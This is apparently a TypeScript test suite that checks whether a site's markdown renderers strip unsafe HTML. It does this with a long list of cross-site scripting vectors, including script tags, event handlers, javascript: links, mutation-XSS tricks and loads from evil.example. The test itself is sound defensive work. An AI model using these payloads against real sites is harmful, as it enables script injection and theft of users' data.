import { XMLValidator } from 'fast-xml-parser'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import t, { type Test } from 'tap'
import { markdown as exportMarkdown } from '../../src/exports/markup.ts'
import { markdown as pageMarkdown } from '../../src/web/content/markdown.ts'

type Node = DefaultTreeAdapterTypes.ChildNode
type Element = DefaultTreeAdapterTypes.Element

/** The elements that rendered text may have. */
const elements = new Set(
  (
    'a abbr b bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h4 h5 h6 hr i img input ins ' +
    'kbd li mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead ' +
    'time tr tt ul var wbr'
  ).split(' '),
)
const attributes = new Set(
  (
    'abbr align alt aria-label aria-level border cellpadding cellspacing checked cite class colspan datetime dir disabled height ' +
    'href id lang loading open rel rowspan scope src start tabindex target title type valign value width'
  ).split(' '),
)
const ids = /^fn(ref)?-here-\d+(:\d+)?$/
const classes = /^(language-\S*|hljs-[\w-]+( \w+_)*|task|footnote(s|-ref|-item|s-list|s-sep|-backref))$/
const url = /^(https?:\/\/|mailto:.|#skill-known$|#fn(ref)?-here-\d+(:\d+)?$|data:image\/(png|jpeg|gif|webp);)/

const skills: Record<string, { slug: string }> = { known: { slug: 'known' } }
const renderers: [string, (text: string) => string][] = [
  [
    'page',
    text =>
      pageMarkdown(text, {
        skillUrl: address => skills[address] && `#skill-${skills[address].slug}`,
        pictureAt: () => undefined,
        headingLevel: 6,
        idPrefix: 'here',
      }).text,
  ],
  [
    'export',
    text =>
      exportMarkdown(text, {
        pictureAt: () => undefined,
        linkTo: address => skills[address] && `https://curriculum.example/${address}`,
        headingLevel: 4,
        idPrefix: 'here',
      }).text,
  ],
]

/** Returns what a browser would see in a rendered text that may not be there, and whether the text ends where its place ends. */
const problemsOf = (html: string): string[] => {
  const document = parse(
    `<!doctype html><title>x</title><main><details><summary>S</summary><div class="entry"><div class="notes">${html}</div><p>after</p></div></details><p>end</p></main>`,
  )
  const main = elementsIn(document.childNodes).find(({ tagName }) => tagName === 'main') as Element // it is written above
  const notes = elementsIn([main]).find(({ attrs }) => attrs.some(({ value }) => value === 'notes')) as Element // as above
  const outline = (node: Element): string =>
    node === notes
      ? 'notes'
      : `${node.tagName}(${node.childNodes.map(child => ('tagName' in child ? outline(child) : 'text')).join()})`
  const found = outline(main)
  return [
    ...(found === 'main(details(summary(text),div(notes,p(text))),p(text))' ? [] : [`outline: ${found}`]),
    ...elementsIn(notes.childNodes).flatMap(({ tagName, namespaceURI, attrs }) => [
      ...(elements.has(tagName) && namespaceURI === 'http://www.w3.org/1999/xhtml' ? [] : [`<${tagName}>`]),
      ...attrs.flatMap(({ name, value }) => (isAllowed(name, value) ? [] : [`${name}="${value}"`])),
    ]),
  ]
}

const isAllowed = (name: string, value: string): boolean => {
  if (name === 'id') return ids.test(value)
  if (name === 'class') return classes.test(value)
  if (name === 'cite') return /^https?:/.test(value)
  return name === 'href' || name === 'src' ? url.test(value) : attributes.has(name)
}

const elementsIn = (nodes: readonly Node[]): Element[] =>
  nodes.flatMap(node => ('tagName' in node ? [node, ...elementsIn(node.childNodes)] : []))

const check = (t: Test, text: string): void => {
  for (const [name, render] of renderers) {
    const html = render(text)
    t.strictSame(problemsOf(html), [], `${name}: ${text}`)
    if (name === 'export') t.equal(XMLValidator.validate(`<body>${html}</body>`), true, `${html} of ${text}`)
  }
}

t.test('nothing that could run, load or disguise survives', async t => {
  const vectors = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://example.org/x.png" onerror="alert(1)" onload=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src=javascript:alert(1)> <img src="data:image/svg+xml;base64,PHN2Zz4="> <img src="data:text/html,x">',
    '<img src="https://example.org/x.png" srcset="javascript:alert(1)" longdesc="javascript:x" usemap="#x" style="position:fixed">',
    '<a href="javascript:alert(1)">x</a> <a href="JaVaScRiPt:alert(1)">x</a> <a href="javascript&colon;alert(1)">x</a>',
    '<a href=" java&#10;script:alert(1)">x</a> <a href="java\tscript:alert(1)">x</a> <a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a> <a href="vbscript:x">x</a> <a href="data:text/html,<script>x</script>">x</a>',
    '<a href="//evil.example">x</a> <a href="\\\\evil.example">x</a> <a href="https:evil.example">x</a> <a href="#roadmap">x</a>',
    '<a href="known" target="_top" rel="opener" onclick="alert(1)" ping="https://evil.example">x</a>',
    '<a href="https://example.org" style="position:fixed;inset:0" class="skip" id="data" name="data">x</a>',
    '[x](javascript:alert(1)) [x](<java\nscript:alert(1)>) ![x](javascript:alert(1)) <javascript:alert(1)>',
    '[x](https://example.org "\\" onmouseover=\\"alert(1)") ![\\" onerror=alert(1) x=\\"](https://example.org/x.png)',
    '<svg><script>alert(1)</script></svg> <svg onload=alert(1)> <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>"> <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<style>* { background: url(https://evil.example) }</style> <p style="background:url(https://evil.example)">x</p>',
    '<link rel=stylesheet href=https://evil.example> <meta http-equiv=refresh content="0;url=https://evil.example"> <base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>alert(1)</script>"> <object data=x> <embed src=x> <frameset>',
    '<form action=https://evil.example><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<input type="checkbox" autofocus onfocus=alert(1)> <select><option>x</select> <textarea>x</textarea> <label for=q>x</label>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template> <slot> <dialog open>x</dialog> <marquee onstart=alert(1)>',
    '<div id=panel class=entry name=data data-tier=senior aria-hidden=true role=dialog tabindex=1 contenteditable draggable>x</div>',
    '<details ontoggle=alert(1) open><summary autofocus onfocus=alert(1)>x</summary></details>',
    '<video><source onerror=alert(1)></video> <audio src=x onerror=alert(1)> <picture><source srcset=x></picture>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp> <plaintext> <listing>x</listing>',
    '<!--><img src=x onerror=alert(1)>--> <!--- --><img src=x onerror=alert(1)> <!-- --!><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]> <?xml version="1.0"?><?php echo "<script>" ?> <!DOCTYPE x [<!ENTITY y "z">]>',
    '<p title="</div><script>alert(1)</script>">x</p> <b title="`<script>`" `<img src=x onerror=alert(1)>`>x</b>',
    '<div>\n<script>alert(1)</script>\n<img src=x onerror=alert(1) <b\n</div>',
    '<table><tr><td><script>alert(1)</script></table><table><a href=javascript:alert(1)>x</table>',
    '<a title="x" data-author="" id=x class=entry href=javascript:alert(1)>x</a>',
    '<blockquote cite="javascript:alert(1)"><q cite="https://example.org">x</q></blockquote> <ins cite="data:x">x</ins>',
    '<b title="&#0;&#1;&#x85;&#xffff;&#xd800;&lt;script&gt;">&#x1f;&#127;&lt;script&gt;</b>',
    '```"><script>alert(1)</script>\nx\n```\n\n```html onclick=x\n<script>alert(1)</script>\n```\n\n```js\n"</code></pre><script>alert(1)</script>"\n```',
    'x[^a"><script>]\n\n[^a"><script>]: <script>alert(1)</script> <b>y',
    '- [ ] <script>alert(1)</script>\n- [x] <input checked>\n',
    '| <b | x> |\n| - | :-: |\n| <td onclick=x> | </table> |\n',
    'https://example.org/"onmouseover="alert(1) https://example.org/<script> javascript://example.org/%0aalert(1)',
    '<table><details>\n\n<table></table></details></table>',
    '<table><td><details><tr><table></table></tr></details></td></table>',
    '<table><td><b><th></th><table></table></b></td></table>',
    '<ul><li><div><li>x</li></div></li></ul> <dl><dd><div><dt>x</dt></div></dd></dl>',
    '\u0000<\u0000script> <a\u0000href=x> <im\u0000g>',
  ]
  for (const text of vectors)
    for (const around of ['*', `x *\n\n> - *`, `<div>\n*`])
      check(
        t,
        around.replace('*', () => text),
      )
})

t.test('tags in any order stay within the place of the text', async t => {
  const parts = (
    '<b> </b> <i> <a href="known"> </a> <p> </p> <div> </div> <table> </table> <tr> <td> </td> <th> <caption> <tbody> <ul> </ul> <li> </li> ' +
    '<dl> <dt> <dd> </dd> <h1> </h1> <h6> <details> </details> <summary> </summary> <pre> </pre> <code> </code> <ruby> <rt> <rp> </ruby> ' +
    '<blockquote> </blockquote> <br> </br> <hr> <img> <wbr> <span> </span> <sup> <T> </T> </section> </main> <!-- --> text *em* `code` ' +
    '[a](known) ![p](https://example.org/p.png) <strike> <tt> <s> </s> <q> <small> <ins> </ins> # - > 1. | | - [x][^1]'
  ).split(' ')
  let seed = 1
  const random = (end: number): number => {
    seed = (seed * 48_271) % 2_147_483_647
    return seed % end
  }
  for (let round = 0; round < 1_500; round++) {
    const text = Array.from(
      { length: 2 + random(12) },
      () => `${parts[random(parts.length)]}${['', ' ', '\n', '\n\n'][random(4)]}`,
    )
    check(t, `${text.join('')}\n\n[^1]: Note\n`)
  }
})

// Some of these took minutes: the file would run into the timeout of the test runner.
for (const part of [
  'https://example.org/(',
  'https://example.org/"',
  '[x](#a)',
  '![x](y)',
  '[',
  '<b>',
  '> ',
  '*a_ ',
  '- [ ] a\n',
])
  t.test(`the longest text of ${JSON.stringify(part)} is rendered`, async t => {
    const text = part.repeat(100_000 / part.length)
    for (const [name, render] of renderers) t.match(render(text), /\S/, name)
  })

t.test('a whole address is a link, except in a very long word', async t => {
  for (const [name, render] of renderers) {
    t.match(render('See https://example.org/a.'), 'href="https://example.org/a"', name)
    t.notMatch(render(`https://example.org/${'a'.repeat(5_000)}`), 'href', name)
  }
})
